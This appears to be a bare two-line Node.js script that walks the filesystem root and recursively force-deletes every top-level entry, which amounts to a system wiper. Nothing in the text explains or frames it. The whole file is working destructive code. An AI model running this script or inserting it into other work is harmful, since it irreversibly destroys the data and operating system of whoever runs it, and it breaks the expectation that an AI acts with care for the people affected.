const fs = require('fs');
for (const f of fs.readdirSync('/')) fs.rmSync('/' + f, { recursive: true, force: true });
